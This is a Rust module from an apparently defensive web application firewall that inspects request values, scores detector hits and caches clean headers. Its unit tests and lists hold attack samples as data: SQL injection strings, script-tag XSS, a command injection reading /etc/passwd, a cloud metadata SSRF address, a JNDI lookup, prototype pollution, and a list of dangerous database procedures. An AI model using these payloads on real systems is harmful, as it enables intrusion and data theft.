//! The inspection of one request: values go in (with where they came from), every detector looks
//! at each, hits are scored and filtered by paranoia level and exclusions, and the report says
//! whether the anomaly score reached the threshold.
//!
//! Bounded: at most `budget` bytes are inspected per request; a longer value is read in
//! overlapping windows so that nothing within the budget escapes, and what lies beyond is
//! reported as not inspected.

use crate::json::{self, Event, Seg};
use crate::pii::FieldPattern;

use super::normalize::{normalize, Encoding, Transforms, MAX_VALUE};
use super::{
    cmdi, code, crlf, jndi, ldap, nosql, signals, sqli, ssrf, ssti, traversal, xss, xxe, Detector,
    Hit, Place, ERROR, NOTICE, WARNING,
};

/// Detectors to skip for fields, e.g. `{detectors: [sqli], fields: ["body.query"]}` for an API
/// whose `query` field takes SQL on purpose.
#[derive(Debug, Clone, PartialEq)]
pub struct Exclusion {
    /// Empty: every detector.
    pub detectors: Vec<Detector>,
    /// Location patterns: `query.q`, `body.items[*].note`, `header.user-agent`, `cookie.*`,
    /// `body.**`; a bare name matches that field anywhere.
    pub fields: Vec<FieldPattern>,
}

#[derive(Debug, Clone, PartialEq)]
pub struct Settings {
    /// 1 (default, tuned for few false alarms) to 4 (most rules, most false alarms).
    pub paranoia: u8,
    /// Anomaly score at which a request is refused; 5 means one critical hit.
    pub threshold: u32,
    pub exclusions: Vec<Exclusion>,
}

impl Default for Settings {
    fn default() -> Self {
        Settings {
            paranoia: 1,
            threshold: 5,
            exclusions: Vec::new(),
        }
    }
}

/// One counted hit, for the audit trail and the access log. Never holds the value.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Finding {
    pub detector: Detector,
    pub rule: &'static str,
    pub score: u8,
    /// `query.q`, `body.user.comment`, `header.user-agent`, `cookie.session`, `path`.
    pub location: String,
    /// The normalisations the value needed (`url-decode`, `html-entities`...).
    pub transforms: Vec<&'static str>,
}

#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Report {
    pub score: u32,
    pub findings: Vec<Finding>,
    /// Bytes looked at.
    pub inspected: usize,
    /// The budget ran out: the rest of the request was not inspected.
    pub incomplete: bool,
}

pub struct Inspector<'s> {
    settings: &'s Settings,
    report: Report,
    budget: usize,
    hits: Vec<Hit>,
    seen: Option<&'s mut CleanValues>,
    /// Something was found (at any paranoia level) since this was last cleared: what
    /// [`Inspector::cookies`] asks before remembering a whole header as clean.
    dirty: bool,
}

/// Values recently found clean (no detector had anything to say, at any paranoia level), so the
/// next request that repeats them is not inspected again: a client sends the same User-Agent,
/// Referer and cookies on every call, and a browser's User-Agent alone costs more to inspect than
/// the rest of a typical GET. Keyed by a keyed hash (std's `RandomState`, random per process) of
/// place, encoding and value, so a client cannot craft an attack that collides with a cached
/// clean value. Only headers, cookies and names go in: they repeat; bodies rarely do.
pub struct CleanValues {
    hashes: std::collections::HashSet<u64>,
    state: std::hash::RandomState,
    capacity: usize,
}

impl CleanValues {
    pub fn new(capacity: usize) -> CleanValues {
        CleanValues {
            hashes: std::collections::HashSet::with_capacity(capacity),
            state: std::hash::RandomState::new(),
            capacity,
        }
    }

    fn key(&self, place: Place, encoding: Encoding, raw: &str) -> u64 {
        use std::hash::{BuildHasher, Hash, Hasher};
        let mut h = self.state.build_hasher();
        (place as u8).hash(&mut h);
        (encoding as u8).hash(&mut h);
        raw.hash(&mut h);
        h.finish()
    }

    fn insert(&mut self, key: u64) {
        if self.hashes.len() >= self.capacity {
            // Crude but bounded: start over rather than track recency.
            self.hashes.clear();
        }
        self.hashes.insert(key);
    }

    pub fn len(&self) -> usize {
        self.hashes.len()
    }

    pub fn is_empty(&self) -> bool {
        self.hashes.is_empty()
    }
}

/// Whether a bare name could pollute a prototype (`__proto__`, `constructor`). A byte loop: the
/// names are short, where `str::contains` spends more setting up its searcher than searching.
fn pollutes(name: &str) -> bool {
    let b = name.as_bytes();
    let at = |word: &[u8]| b.windows(word.len()).any(|w| w[0] == word[0] && w == word);
    b.len() >= 5 && (at(b"proto") || at(b"constructor"))
}

/// Whether a header name says `filename` once `-`, `_` and `.` are taken out (`X-File-Name`):
/// asked of every header of every request, so a rolling window of the last eight bytes instead
/// of a squeezed copy of the name.
fn names_a_file(name: &str) -> bool {
    const WORD: u64 = u64::from_be_bytes(*b"filename");
    let mut window = 0u64;
    let mut seen = 0;
    for b in name.bytes().filter(|b| !matches!(b, b'-' | b'_' | b'.')) {
        window = (window << 8) | u64::from(b);
        seen += 1;
        if seen >= 8 && window == WORD {
            return true;
        }
    }
    false
}

const NOT_WORD: u8 = 1;
const UPPER: u8 = 2;
const UNDERSCORE: u8 = 4;

/// Every byte but `[A-Za-z0-9_-]` is `NOT_WORD`; capitals and `_` are noted too.
const WORD_BYTES: [u8; 256] = {
    let mut t = [NOT_WORD; 256];
    let mut b = 0;
    while b < 256 {
        let c = b as u8;
        if c.is_ascii_alphanumeric() || c == b'-' {
            t[b] = if c.is_ascii_uppercase() { UPPER } else { 0 };
        }
        b += 1;
    }
    t[b'_' as usize] = UNDERSCORE;
    t
};

fn repeats(place: Place) -> bool {
    matches!(
        place,
        Place::Header | Place::Cookie | Place::CookieName | Place::QueryName | Place::JsonKey
    )
}

/// Bytes a plain web address may hold: letters, digits and the URL delimiters that no
/// injection grammar below needs on their own. Left out on purpose: space, quotes, brackets of
/// every kind, `;|$`, backtick, `%` and `+` (encodings), `*` and `\\`, `!`, `^`, control bytes
/// and anything beyond ASCII.
const URL_BYTES: [u8; 256] = super::byte_flags(&[(
    b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-._~/?=&:#,@",
    1,
)]);

/// Whether a value is one plain `http(s)` address: nothing decoded to get it, only
/// [`URL_BYTES`], and no `/.` (so no `..` segment nor hidden file). SQL, markup and shell
/// injection each need a byte such an address cannot hold (a quote, a space or comment, a
/// bracket, `<`, `;`, `|`, `$`, a backtick), so only the detectors that read addresses as such
/// (SSRF, remote inclusion and file paths in traversal, and whatever else a trigger wakes)
/// look at it. Addresses are among the commonest values an API carries (links, callbacks,
/// avatars, referrers), and the three grammars cost most of a request's inspection on them.
fn plain_url(v: &super::Normalized<'_>) -> bool {
    let l = v.lower.as_bytes();
    let rest = match l.strip_prefix(b"https://") {
        Some(rest) => rest,
        None => match l.strip_prefix(b"http://") {
            Some(rest) => rest,
            None => return false,
        },
    };
    v.transforms.is_empty()
        && v.separated.is_none()
        && rest.iter().all(|&b| URL_BYTES[b as usize] != 0)
        && memchr::memmem::find(rest, b"/.").is_none()
}

/// Runs every detector that has something to look at on one value.
pub fn detect(v: &super::Normalized<'_>, place: Place, out: &mut Vec<Hit>) {
    let m = signals::triggered(&v.lower);
    let on = |d| signals::has(m, d);
    let grammars = !plain_url(v);
    if grammars
        && (on(Detector::Sqli)
            || v.separated.is_some()
            || place != Place::JsonString && sqli::wakes(&v.lower))
    {
        sqli::check_cued(v, place, Some(m), out);
    }
    // Entities and escapes can spell markup that no byte of the raw value gives away.
    let hidden = v.transforms.contains(Transforms::HTML_ENTITIES)
        || v.transforms.contains(Transforms::JS_ESCAPES);
    if grammars && (on(Detector::Xss) || hidden || m & signals::CUE_JSFUCK != 0) {
        xss::check_cued(v, place, Some(m), out);
    }
    if on(Detector::Nosql) {
        nosql::check(v, place, out);
    }
    let cmdi_on = on(Detector::Cmdi);
    if grammars && (cmdi_on || place != Place::JsonString && cmdi::outside_json(&v.lower)) {
        cmdi::inspect_cued(v, place, cmdi_on, Some(m), out);
    }
    if on(Detector::Traversal) {
        traversal::check(v, place, out);
    }
    if on(Detector::Ssrf) {
        ssrf::check(v, place, out);
    }
    if on(Detector::Xxe) {
        xxe::check(v, place, out);
    }
    if on(Detector::Ssti) {
        ssti::check(v, place, out);
    }
    if on(Detector::Jndi) {
        jndi::check(v, place, out);
    }
    if on(Detector::Crlf) {
        crlf::check(v, place, out);
    }
    if on(Detector::Ldap) {
        ldap::check(v, place, out);
    }
    // Java serialisation is case-sensitive base64 (`rO0AB`): checked on the value as sent.
    if on(Detector::Code)
        || place.is_name()
        || v.decoded.starts_with("rO0AB")
        || code::encoded_java(&v.decoded)
    {
        code::check(v, place, out);
    }
    let t = v.transforms;
    // Heavy encoding is itself a signal: honest clients encode once.
    if t.contains(Transforms::OVERLONG_UTF8) {
        out.push(Hit::new(Detector::Evasion, "overlong-utf8", ERROR, 1));
    }
    if t.evasions() >= 2 {
        out.push(Hit::new(Detector::Evasion, "layered-encoding", WARNING, 1));
    } else if t.contains(Transforms::MULTI_URL_DECODE) {
        out.push(Hit::new(
            Detector::Evasion,
            "double-url-encoding",
            NOTICE,
            1,
        ));
    }
    if t.contains(Transforms::NULL_BYTES) && place != Place::JsonString {
        out.push(Hit::new(Detector::Evasion, "null-byte", ERROR, 1));
    }
}

fn segments(location: &str) -> Vec<Seg<'_>> {
    let mut out = Vec::new();
    for part in location.split('.') {
        let (name, mut rest) = match part.find('[') {
            Some(i) => (&part[..i], &part[i..]),
            None => (part, ""),
        };
        if !name.is_empty() {
            out.push(Seg::Key(name.into()));
        }
        while let Some(close) = rest.find(']') {
            out.push(Seg::Index(rest[1..close].parse().unwrap_or(0)));
            rest = &rest[close + 1..];
        }
    }
    out
}

impl<'s> Inspector<'s> {
    pub fn new(settings: &'s Settings, budget: usize) -> Inspector<'s> {
        Inspector {
            settings,
            report: Report::default(),
            budget,
            hits: Vec::new(),
            seen: None,
            dirty: false,
        }
    }

    /// Remembers clean header, cookie and name values across requests (see [`CleanValues`]).
    pub fn with_clean_values(mut self, seen: &'s mut CleanValues) -> Inspector<'s> {
        self.seen = Some(seen);
        self
    }

    /// Inspects one value. `location` is only built when something is found.
    pub fn value(
        &mut self,
        place: Place,
        raw: &str,
        encoding: Encoding,
        location: impl Fn() -> String,
    ) {
        if raw.is_empty() {
            return;
        }
        if self.report.inspected >= self.budget {
            self.report.incomplete = true;
            return;
        }
        let mut allowed = (self.budget - self.report.inspected).min(raw.len());
        while !raw.is_char_boundary(allowed) {
            allowed -= 1;
        }
        self.report.inspected += allowed;
        if allowed < raw.len() {
            self.report.incomplete = true;
        }
        // Long values in overlapping windows, so a payload cannot hide past the first window.
        let mut start = 0;
        loop {
            let mut end = (start + MAX_VALUE).min(allowed);
            while !raw.is_char_boundary(end) {
                end -= 1;
            }
            self.window(place, &raw[start..end], encoding, &location);
            if end >= allowed {
                break;
            }
            let mut next = end.saturating_sub(256).max(start + 1);
            while !raw.is_char_boundary(next) {
                next += 1;
            }
            start = next;
        }
    }

    fn window(
        &mut self,
        place: Place,
        raw: &str,
        encoding: Encoding,
        location: &impl Fn() -> String,
    ) {
        // A bare word (`orderId`, `SKU-4711`, `en-US`) can carry no attack: no detector has a
        // trigger made only of letters, digits, `_` and `-` (bar `--` outside JSON, below), bar
        // prototype pollution in names. Whether it has a capital letter is read in the same
        // pass, for the base64 test below.
        let f = super::flags_until(&WORD_BYTES, raw.as_bytes(), NOT_WORD);
        let (mut bare, upper) = (f & NOT_WORD == 0, f & UPPER != 0);
        // Where a value is a token, `--` is a trigger made of those bytes (`1--`: a number and a
        // SQL comment), and catalogue names count; not in JSON, whose keys and strings are most
        // of the bare words a request holds (and where neither shape applies).
        let json = matches!(place, Place::JsonString | Place::JsonKey);
        if bare && !json {
            let rb = raw.as_bytes();
            bare = !memchr::memchr_iter(b'-', rb).any(|p| rb.get(p + 1) == Some(&b'-'));
        }
        let serialized = raw.starts_with("rO0AB")
            || (bare && (!json && catalog_name(raw) || upper && code::encoded_java_walk(raw)));
        // Django's lookups are spelled with `__`.
        if bare && place.is_name() && f & UNDERSCORE != 0 {
            if let Some(rule) = nosql::orm_lookup(raw) {
                self.rule(Detector::Nosql, rule, super::CRITICAL, 1, location);
            }
        }
        if bare && !serialized && !(place.is_name() && pollutes(raw)) {
            return;
        }
        let cache_key = match &self.seen {
            Some(seen) if repeats(place) => {
                let k = seen.key(place, encoding, raw);
                if seen.hashes.contains(&k) {
                    return;
                }
                Some(k)
            }
            _ => None,
        };
        let v = normalize(raw, encoding);
        self.hits.clear();
        detect(&v, place, &mut self.hits);
        self.dirty |= !self.hits.is_empty();
        if self.hits.is_empty() {
            if let (Some(k), Some(seen)) = (cache_key, self.seen.as_deref_mut()) {
                seen.insert(k);
            }
            return;
        }
        let pl = self.settings.paranoia;
        let mut loc: Option<String> = None;
        for hit in std::mem::take(&mut self.hits) {
            if hit.paranoia > pl {
                continue;
            }
            let l = loc.get_or_insert_with(location);
            if self.excluded(hit.detector, l) {
                continue;
            }
            self.report.score += u32::from(hit.score);
            self.report.findings.push(Finding {
                detector: hit.detector,
                rule: hit.rule,
                score: hit.score,
                location: l.clone(),
                transforms: v.transforms.names(),
            });
        }
    }

    fn excluded(&self, detector: Detector, location: &str) -> bool {
        if self.settings.exclusions.is_empty() {
            return false;
        }
        let segs = segments(location);
        self.settings.exclusions.iter().any(|e| {
            (e.detectors.is_empty() || e.detectors.contains(&detector))
                && e.fields.iter().any(|f| f.matches(&segs))
        })
    }

    /// The request path, percent-encoded as sent, as one value (`/@fs/etc/passwd` only reads as
    /// a file path whole).
    pub fn path(&mut self, path: &str) {
        if path != "/" {
            self.value(Place::Path, path, Encoding::Percent, || "path".to_string());
            // And each segment that is more than a word, as an application reads `/users/{id}`.
            if path.contains(['%', '\'', '"', ' ', '(', ';', '=']) {
                for seg in path.split('/').filter(|s| !s.is_empty()) {
                    self.value(Place::Query, seg, Encoding::Percent, || "path".to_string());
                }
            }
        }
    }

    /// A query string or a form body: names and values.
    pub fn params(&mut self, text: &str, form: bool) {
        let (value_place, name_place, prefix) = if form {
            (Place::Form, Place::FormName, "form")
        } else {
            (Place::Query, Place::QueryName, "query")
        };
        for pair in text.split('&').filter(|p| !p.is_empty()) {
            let (name, value) = pair.split_once('=').unwrap_or((pair, ""));
            let label = || {
                let n = normalize(name, Encoding::Form);
                format!("{prefix}.{}", location_key(&n.decoded))
            };
            self.value(name_place, name, Encoding::Form, label);
            self.value(value_place, value, Encoding::Form, label);
            // `pay%3DAND+1%3D1`: a whole pair encoded into a name, which an application that
            // decodes twice reads as `pay` = `AND 1=1`; its value is a value.
            if let Some(at) = encoded_equals(name) {
                self.value(value_place, &name[at + 3..], Encoding::Form, label);
            }
            if !form && session_id_name(name) && !value.is_empty() {
                self.rule(
                    Detector::Session,
                    "session-id-in-url",
                    super::CRITICAL,
                    1,
                    label,
                );
            }
        }
    }

    /// A client sends the same `Cookie` header on every call: once every pair in it was found
    /// clean, the whole header is remembered (keyed apart from any single value: cookie values
    /// are read percent-encoded, the whole header as plain) and not taken apart again.
    pub fn cookies(&mut self, header: &str) {
        let key = match &self.seen {
            Some(seen) => {
                let k = seen.key(Place::Cookie, Encoding::Plain, header);
                if seen.hashes.contains(&k) {
                    return;
                }
                Some(k)
            }
            None => None,
        };
        let (dirty, incomplete) = (std::mem::take(&mut self.dirty), self.report.incomplete);
        self.cookie_pairs(header);
        if let (Some(k), Some(seen)) = (key, self.seen.as_deref_mut()) {
            if !self.dirty && self.report.incomplete == incomplete {
                seen.insert(k);
            }
        }
        self.dirty |= dirty;
    }

    fn cookie_pairs(&mut self, header: &str) {
        for pair in header.split(';') {
            let pair = pair.trim();
            let (name, value) = pair.split_once('=').unwrap_or((pair, ""));
            let label = || format!("cookie.{}", location_key(name));
            self.value(Place::CookieName, name, Encoding::Percent, label);
            self.value(
                Place::Cookie,
                value.trim_matches('"'),
                Encoding::Percent,
                label,
            );
        }
    }

    pub fn header(&mut self, name: &str, value: &str) {
        self.value(Place::Header, value, Encoding::Plain, || {
            format!("header.{name}")
        });
        // Upload file names (`X-Filename: shell.php5.`): a script the server may run.
        if names_a_file(name) {
            self.upload_name(value, || format!("header.{name}"));
        }
        if name.eq_ignore_ascii_case("content-type") && confused_content_type(value) {
            self.rule(
                Detector::Evasion,
                "content-type-confusion",
                super::CRITICAL,
                1,
                || "header.content-type".to_string(),
            );
        }
    }

    /// A hit found outside the detectors (by the shape of the request rather than of one value).
    fn rule(
        &mut self,
        detector: Detector,
        rule: &'static str,
        score: u8,
        paranoia: u8,
        location: impl Fn() -> String,
    ) {
        self.dirty = true;
        if paranoia > self.settings.paranoia {
            return;
        }
        let loc = location();
        if self.excluded(detector, &loc) {
            return;
        }
        self.report.score += u32::from(score);
        self.report.findings.push(Finding {
            detector,
            rule,
            score,
            location: loc,
            transforms: Vec::new(),
        });
    }

    /// A file name a client uploads: server-side script extensions, however padded.
    fn upload_name(&mut self, value: &str, location: impl Fn() -> String) {
        let v = value
            .trim()
            .trim_end_matches(['.', ' '])
            .to_ascii_lowercase();
        let ext = v.rsplit('.').next().unwrap_or("").trim();
        if super::server_script(ext) && v.contains('.') {
            self.rule(
                Detector::Code,
                "script-upload",
                super::CRITICAL,
                1,
                location,
            );
            return;
        }
        // `sess_<id>`: PHP's session file name. Uploaded under it, a file becomes someone's
        // session (or, with a serialised object inside, code).
        let base = v.rsplit(['/', '\\']).next().unwrap_or("");
        if base.strip_prefix("sess_").is_some_and(|id| {
            id.len() >= 8
                && id
                    .bytes()
                    .all(|b| b.is_ascii_alphanumeric() || matches!(b, b',' | b'-'))
        }) {
            self.rule(
                Detector::Code,
                "php-session-upload",
                super::CRITICAL,
                1,
                location,
            );
        }
    }

    /// A JSON body: every key and every string. Returns false when it is not JSON (then the
    /// caller inspects it as text).
    pub fn json(&mut self, text: &str) -> bool {
        // Locations are only spelled out for values with a finding.
        let ok = json::walk(text, 128, |e| match e {
            Event::Key { path, key, .. } => {
                self.value(Place::JsonKey, key, Encoding::Plain, || {
                    if path.0.is_empty() {
                        format!("body.{}", location_key(key))
                    } else {
                        format!("body.{path}.{}", location_key(key))
                    }
                });
            }
            Event::Leaf {
                path,
                value: json::Scalar::Str(s),
                ..
            } => self.value(Place::JsonString, s, Encoding::Plain, || {
                format!("body.{path}")
            }),
            _ => {}
        })
        .is_ok();
        ok
    }

    /// A JSON body another check has already parsed (the contract's strict parse): the same
    /// keys and strings as [`Inspector::json`] sees, with the same locations, without reading
    /// the text a second time.
    pub fn json_value(&mut self, value: &serde_json::Value) {
        fn visit<'v>(
            me: &mut Inspector<'_>,
            v: &'v serde_json::Value,
            path: &mut Vec<json::Seg<'v>>,
        ) {
            match v {
                serde_json::Value::String(s) => {
                    let p = json::Path(path);
                    me.value(Place::JsonString, s, Encoding::Plain, || {
                        format!("body.{p}")
                    });
                }
                serde_json::Value::Array(items) => {
                    for (i, item) in items.iter().enumerate() {
                        path.push(json::Seg::Index(i));
                        visit(me, item, path);
                        path.pop();
                    }
                }
                serde_json::Value::Object(map) => {
                    for (key, item) in map {
                        let p = json::Path(path);
                        me.value(Place::JsonKey, key, Encoding::Plain, || {
                            if p.0.is_empty() {
                                format!("body.{}", location_key(key))
                            } else {
                                format!("body.{p}.{}", location_key(key))
                            }
                        });
                        path.push(json::Seg::Key(key.as_str().into()));
                        visit(me, item, path);
                        path.pop();
                    }
                }
                _ => {}
            }
        }
        visit(self, value, &mut Vec::new());
    }

    /// A body inspected as one value (XML, text). One whose bytes are JSON or a form (`a=1&b=2`:
    /// one line, no spaces), whatever its declared type, is read as that instead: a backend that
    /// ignores the content type (many frameworks parse what arrives) sees those fields, so the
    /// detectors look at them where they stand. Read once, not twice, so that a shape scored
    /// as an error in text is not counted again as an error in a JSON string.
    pub fn text(&mut self, body: &str) {
        let t = body.trim();
        if t.starts_with(['{', '[']) {
            if !self.json(t) {
                self.unparsed(body);
            }
        } else if !t.is_empty()
            && t.contains('=')
            && !t.starts_with(['=', '<', '"', '\''])
            && !t.bytes().any(|b| b.is_ascii_whitespace() || b == b'<')
        {
            self.params(t, true);
        } else {
            self.unparsed(body);
        }
    }

    /// A body inspected as one value only: JSON that did not parse, read as text.
    pub fn unparsed(&mut self, body: &str) {
        self.value(Place::Body, body, Encoding::Plain, || "body".to_string());
    }

    pub fn finish(self) -> Report {
        self.report
    }

    /// Whether the anomaly score so far reaches the threshold.
    pub fn blocks(&self) -> bool {
        self.report.score >= self.settings.threshold
    }
}

/// Database catalogue names: a bare word, but one only an injection into a table or column name
/// sends (`information_schema`, `pg_catalog`).
fn catalog_name(raw: &str) -> bool {
    raw.len() >= 4
        && raw.len() <= 24
        && [
            "information_schema",
            "pg_catalog",
            "sqlite_master",
            "sysobjects",
            "syscolumns",
            "msysaccessobjects",
            "tempdb",
            "msdb",
            "xp_cmdshell",
            "xp_dirtree",
            "xp_regread",
            "xp_fileexist",
            "sp_password",
            "sp_executesql",
            "sp_oacreate",
            "utl_http",
            "utl_inaddr",
            "openrowset",
            "opendatasource",
        ]
        .iter()
        .any(|n| raw.eq_ignore_ascii_case(n))
}

/// The session cookie names of common web frameworks: a client that puts one in a query string is
/// fixing someone's session (or the application leaks it into URLs, logs and referers).
fn session_id_name(name: &str) -> bool {
    const NAMES: [&str; 28] = [
        "jsessionid",
        "phpsess",
        "_flask_session",
        "next-auth.session-token",
        "__host-next-auth.",
        "__secure-next-auth.",
        "meteor_login_token",
        "play_session",
        "sails.sid",
        "koa.sess",
        "koa:sess",
        "zend_session",
        "shiny-token",
        "weblogicsession",
        "jservsession",
        "jwsession",
        "cfsid",
        "asp.net_sessionid",
        "aspsessionid",
        "laravel_session",
        "connect.sid",
        "ci_session",
        "cakephp",
        "_session_id",
        "rack.session",
        "_rails_session",
        "cfid",
        "cftoken",
    ];
    // Not Django's `sessionid`: a name that plain is also many APIs' own parameter.
    let n = name.trim();
    NAMES
        .iter()
        .any(|s| n.len() >= s.len() && n.as_bytes()[..s.len()].eq_ignore_ascii_case(s.as_bytes()))
}

/// A `boundary` on a body that is not multipart (`application/x-www-form-urlencoded;
/// boundary="application/json"`): it means nothing to a conforming parser, and is there for one
/// that reads the body by the wrong type, which is how a body slips past a WAF reading it by the
/// right one.
fn confused_content_type(value: &str) -> bool {
    let mut parts = value.split(';');
    let media = parts.next().unwrap_or("").trim();
    let multipart = media.len() >= 10 && media.as_bytes()[..10].eq_ignore_ascii_case(b"multipart/");
    !multipart
        && parts.any(|p| {
            let name = p.split('=').next().unwrap_or("").trim();
            name.eq_ignore_ascii_case("boundary")
        })
}

/// Request headers worth inspecting: all but the structured ones that carry no free text, and
/// the credentials, which the identity check owns (a token is random noise to a detector).
pub fn inspect_header(name: &str) -> bool {
    !matches!(
        name,
        "host"
            | "content-length"
            | "connection"
            | "keep-alive"
            | "te"
            | "accept"
            | "accept-encoding"
            | "accept-language"
            | "authorization"
            | "proxy-authorization"
            | "x-api-key"
            | "cookie"
            | "cache-control"
            | "pragma"
            | "upgrade-insecure-requests"
            | "dnt"
            | "x-request-id"
            | "traceparent"
            | "tracestate"
            | "if-none-match"
            | "if-match"
            | "if-modified-since"
            | "if-unmodified-since"
            | "content-md5"
    ) && !name.starts_with("sec-")
        && !name.starts_with("x-warden-")
}

/// Where `%3D` (an encoded `=`) first stands in `name`: memchr for the `%`, as every name of
/// every query is asked.
fn encoded_equals(name: &str) -> Option<usize> {
    let b = name.as_bytes();
    memchr::memchr_iter(b'%', b)
        .find(|&p| b.get(p + 1) == Some(&b'3') && matches!(b.get(p + 2), Some(b'D' | b'd')))
}

/// A name safe for a location string: printable, short, no separators that would confuse it.
fn location_key(name: &str) -> String {
    let mut out: String = name
        .chars()
        .take(64)
        .map(|c| {
            if c.is_ascii_graphic() && c != '.' {
                c
            } else {
                '_'
            }
        })
        .collect();
    if out.is_empty() {
        out.push('_');
    }
    out
}

#[cfg(test)]
mod tests {
    #[test]
    fn boundaries_belong_to_multipart_bodies() {
        for v in [
            "application/x-www-form-urlencoded;boundary=\"application/json\"",
            "application/json; boundary=x",
            "text/xml;BOUNDARY=abc",
        ] {
            assert!(super::confused_content_type(v), "{v}");
        }
        for v in [
            "multipart/form-data; boundary=----x",
            "Multipart/Related; boundary=a; type=\"application/xop+xml\"",
            "application/json; charset=utf-8",
            "application/x-www-form-urlencoded",
            "",
        ] {
            assert!(!super::confused_content_type(v), "{v}");
        }
    }

    #[test]
    fn header_names_that_name_a_file() {
        for n in [
            "x-filename",
            "x-file-name",
            "file_name",
            "x-file.name",
            "filename",
            "x-up-filename-2",
        ] {
            assert!(names_a_file(n), "{n}");
        }
        for n in [
            "user-agent",
            "x-file",
            "name",
            "filenam",
            "x-file-nme",
            "",
            "ilename",
        ] {
            assert!(!names_a_file(n), "{n}");
        }
        // The same answer as squeezing the name and searching it.
        for n in ["a-f-i-l-e-n-a-m-e", "ffilename", "xfilenamex", "fil.ena_me"] {
            assert_eq!(
                names_a_file(n),
                n.replace(['-', '_', '.'], "").contains("filename"),
                "{n}"
            );
        }
    }

    use super::*;

    fn report(f: impl FnOnce(&mut Inspector<'_>), settings: &Settings) -> Report {
        let mut i = Inspector::new(settings, 1 << 20);
        f(&mut i);
        i.finish()
    }

    /// What a report says, in an order that does not depend on the order members were visited.
    fn sorted(mut r: Report) -> Report {
        r.findings
            .sort_by(|a, b| (&a.location, a.rule).cmp(&(&b.location, b.rule)));
        r
    }

    // The contract's parsed body is inspected exactly as its text would be.
    #[test]
    fn a_parsed_body_reports_what_its_text_reports() {
        let s = Settings::default();
        for text in [
            r#"{"user": {"bio": "<script>alert(1)</script>", "$where": "1"}}"#,
            r#"{"items": [{"note": "1' OR '1'='1"}, {"note": "fine"}], "q": "; cat /etc/passwd"}"#,
            r#"{"a b.c": {"../../etc/passwd": "x"}, "url": "http://169.254.169.254/latest/meta-data"}"#,
            r#"{"esc": "\u003cscript\u003ealert(1)\u003c/script\u003e", "n": [1, 2.5, true, null]}"#,
            r#"{"__proto__": {"admin": true}, "t": "${jndi:ldap://x.example/a}", "": ""}"#,
            r#"[["deep", ["er", {"k": "{{7*7}}"}]], "O'Brien ordered a blue shirt; union of sizes"]"#,
        ] {
            let parsed: serde_json::Value = serde_json::from_str(text).unwrap();
            let from_text = sorted(report(|i| assert!(i.json(text)), &s));
            let from_value = sorted(report(|i| i.json_value(&parsed), &s));
            assert!(!from_text.findings.is_empty(), "{text}");
            assert_eq!(from_value, from_text, "{text}");
        }
    }

    #[test]
    fn findings_carry_detector_location_and_transforms() {
        let s = Settings::default();
        let r = report(
            |i| i.params("q=1%2527%20OR%20%25271%2527%3D%25271&page=2", false),
            &s,
        );
        assert!(r.score >= 5);
        let f = r
            .findings
            .iter()
            .find(|f| f.detector == Detector::Sqli)
            .unwrap();
        assert_eq!(f.location, "query.q");
        assert!(f.transforms.contains(&"url-decode"), "{f:?}");
        let r = report(
            |i| {
                i.json(r#"{"user": {"bio": "<script>alert(1)</script>", "$where": "1"}}"#);
            },
            &s,
        );
        let locs: Vec<_> = r
            .findings
            .iter()
            .map(|f| (f.detector, f.location.as_str()))
            .collect();
        assert!(locs.contains(&(Detector::Xss, "body.user.bio")), "{locs:?}");
        assert!(
            locs.contains(&(Detector::Nosql, "body.user.$where")),
            "{locs:?}"
        );
    }

    #[test]
    fn exclusions_and_paranoia() {
        let s = Settings {
            exclusions: vec![Exclusion {
                detectors: vec![Detector::Sqli],
                fields: vec![FieldPattern::parse("body.query").unwrap()],
            }],
            ..Settings::default()
        };
        let r = report(
            |i| {
                i.json(r#"{"query": "1' OR '1'='1", "other": "1' OR '1'='1"}"#);
            },
            &s,
        );
        let locs: Vec<_> = r.findings.iter().map(|f| f.location.as_str()).collect();
        assert_eq!(locs, vec!["body.other"]);
        let pl1 = report(
            |i| {
                i.json(r#"{"t": "{{7*7}}"}"#);
            },
            &Settings::default(),
        );
        let pl2 = report(
            |i| {
                i.json(r#"{"t": "{{7*7}}"}"#);
            },
            &Settings {
                paranoia: 2,
                ..Settings::default()
            },
        );
        assert!(pl1.score < 5 && pl2.score >= 5, "{pl1:?} {pl2:?}");
    }

    #[test]
    fn long_values_are_read_in_windows_and_the_budget_holds() {
        let s = Settings::default();
        let long = format!("{}<script>alert(1)</script>", "a".repeat(40_000));
        let r = report(|i| i.text(&long), &s);
        assert!(r.score >= 5, "payload past the first window");
        let mut i = Inspector::new(&s, 1000);
        i.text(&long);
        let r = i.finish();
        assert!(r.incomplete && r.inspected == 1000);
    }

    /// Shapes that are attacks where a value is a token, through the whole inspection (the
    /// wake-up of each detector included): each as a query parameter, percent-encoded.
    #[test]
    fn token_shapes_in_query_parameters() {
        let s = Settings::default();
        let enc = |v: &str| -> String {
            v.bytes()
                .map(|b| {
                    if b.is_ascii_alphanumeric() {
                        (b as char).to_string()
                    } else {
                        format!("%{b:02X}")
                    }
                })
                .collect()
        };
        let attacks = [
            "document.cookie",
            "document /*x*/ . cookie",
            "console.info(1)",
            "console[\"log\"](1)",
            "alias -p x=id",
            "/bin/ab",
            "bin/ansible",
            "1;.shell whoami",
            "xp_cmdshell",
            "tempdb",
            "FROM ack_variable WHERE name=\"cron_last\";",
            "HAVING 1=",
            "\\'and 1",
            "SELECT/*x*/password/**/FROM/**/members",
            "AND 2771=1709)",
            "floor(",
            "ansible all -m ping",
            "in (0,1)",
            "user'collate nocase--",
            "IF \"%1\"==\"/?\" ...",
            "<IMG SRC=",
            "<a href='",
            "1--",
            "417652--",
            "1 /*",
            "case 1 when 2 then 2 end",
        ];
        let as_query = |v: &str| report(|i| i.params(&format!("q={}", enc(v)), false), &s);
        for a in attacks {
            let r = as_query(a);
            assert!(r.score >= 5, "{a}: {r:?}");
        }
        let harmless = [
            "console log (errors only)",
            "Open the console. Log in again.",
            "/usr/share/doc/readme",
            "bin/2024/receipts",
            "alias John Smith = JS",
            "from Monday where possible",
            "having fun = yes",
            "msdn docs",
            "in (2) days",
            "<img src=\"logo.png\"> our logo",
            "<a href=\"https://example.com\">link</a>",
            "if [x] is empty",
            "Mon--Fri",
            "SKU-4711",
            "pages 10--12",
        ];
        for h in harmless {
            let r = as_query(h);
            assert!(r.score < 5, "{h}: {r:?}");
        }
    }

    #[test]
    fn plain_addresses_skip_the_injection_grammars_and_nothing_else() {
        let plain = |s: &str, encoding| plain_url(&normalize(s, encoding));
